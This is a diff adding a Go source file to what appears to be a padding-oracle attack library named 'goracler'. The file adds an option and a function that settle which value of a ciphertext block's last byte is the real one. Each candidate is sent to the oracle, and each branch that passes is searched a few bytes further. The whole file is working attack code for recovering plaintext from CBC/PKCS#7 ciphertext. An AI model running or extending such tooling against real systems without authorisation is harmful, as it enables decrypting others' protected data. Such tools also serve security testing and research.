@@ -0,0 +1,82 @@
+package goracler
+
+// WithAmbiguityDepth changes how the attack resolves the ambiguity of the
+// last byte of each block, which can have more than one value producing a
+// valid pad, like the one producing 0x01 and the one producing 0x02 when the
+// byte before it is 0x02. By default each value producing a valid pad is
+// confirmed with an extra query that modifies the byte before the last one.
+// With a depth n greater than 0, the attack instead tries all the values of
+// the last byte, collects the ones producing a valid pad, and explores each
+// of them as a branch, searching the next n bytes of the block assuming it's
+// the right one. The first branch for which the n bytes are found is kept,
+// and the attack continues from it. With PKCS#7 the byte following a wrong
+// branch always looks valid, while the next one never does, so a depth of 2
+// is enough to discard the wrong branches. It's meant for oracles for which
+// the extra query doesn't work. It increases the cost of each block: the 256
+// values of the last byte are always tried, around 128 more queries than
+// usual, and each extra branch costs the search of up to n bytes, around 128
+// queries per byte. The depth is capped to the number of bytes before the
+// last one.
+func WithAmbiguityDepth(n int) Option {
+	return func(c *config) {
+		c.ambiguityDepth = n
+	}
+}
+
+// exploreLastByte recovers the last byte of the block, and the n bytes
+// before it, where n is the ambiguity depth, by exploring the branches of
+// all the values of the last byte that produce a valid pad. It fills the
+// recovered bytes in mi and returns the position of the next byte to search.
+func exploreLastByte(prev, current []byte, q Poracle, mi []byte, l Logger, cfg *config) (int, error) {
+	last := cfg.padEnd()
+	var valid []byte
+	for g := 0; g < 256; g++ {
+		ok, err := tryCandidate(q, cfg, prev, current, mi, last, byte(g))
+		if err != nil {
+			return 0, err
+		}
+		if ok {
+			valid = append(valid, byte(g))
+		}
+	}
+	if len(valid) == 0 {
+		cfg.failedPos = last
+		return 0, ErrNoValidByte
+	}
+	if len(valid) > 1 {
+		l.Printf("\n%d valid values found for the last byte of the block, exploring them", len(valid))
+	}
+	depth := cfg.ambiguityDepth
+	if depth > last {
+		depth = last
+	}
+	for _, g := range valid {
+		branch := make([]byte, len(mi))
+		copy(branch, mi)
+		branch[last] = g ^ prev[last] ^ cfg.padding.PadByte(1, 0)
+		ok := true
+		for p := last - 1; p >= last-depth; p-- {
+			val, _, err := searchPosition(prev, current, q, branch, p, l, cfg, false)
+			if err == ErrNoValidByte {
+				ok = false
+				break
+			}
+			if err != nil {
+				return 0, err
+			}
+			branch[p] = val ^ prev[p] ^ cfg.padding.PadByte(cfg.padLen(p), 0)
+		}
+		if !ok {
+			l.Printf("\ndiscarding the value %d of the last byte of the block", g)
+			continue
+		}
+		copy(mi, branch)
+		for p := last; p >= last-depth; p-- {
+			cfg.trace.found(p, mi[p]^prev[p]^cfg.padding.PadByte(cfg.padLen(p), 0))
+			cfg.byteFound(p)
+		}
+		return last - depth - 1, nil
+	}
+	cfg.failedPos = last
+	return 0, ErrNoValidByte
+}